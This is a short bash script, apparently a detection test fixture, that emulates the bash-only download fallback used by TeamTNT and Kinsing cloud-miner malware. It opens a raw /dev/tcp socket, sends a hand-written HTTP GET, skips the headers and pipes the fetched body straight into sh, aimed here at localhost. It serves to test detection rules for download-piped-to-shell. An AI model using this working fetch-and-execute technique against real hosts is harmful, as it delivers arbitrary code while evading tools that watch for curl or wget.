#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: the bash-only `__curl()` fallback of TeamTNT and Kinsing cloud-miner scripts (exec 3<>/dev/tcp/HOST/PORT, a hand-written GET, headers skipped with `read`), here with the body copied by a read loop too, so no program but the shells ever runs
# expect: download-piped-to-shell ^(da)?sh$
# exec-borne: yes
#
# The connect is bash's own; the pipe into sh is written by a subshell
# that runs no program.
set -u

fetch() {
	local host=$1 port=$2 path=$3 line
	exec 3<>"/dev/tcp/$host/$port" || return 1
	printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$path" "$host" >&3
	while IFS= read -r line <&3; do
		[ "$line" = $'\r' ] && break
	done
	while IFS= read -r line <&3 || [ -n "$line" ]; do
		printf '%s\n' "$line"
	done
	exec 3>&-
}

fetch 127.0.0.1 "${BW_ATTACK_PORT:?}" /install.sh | sh
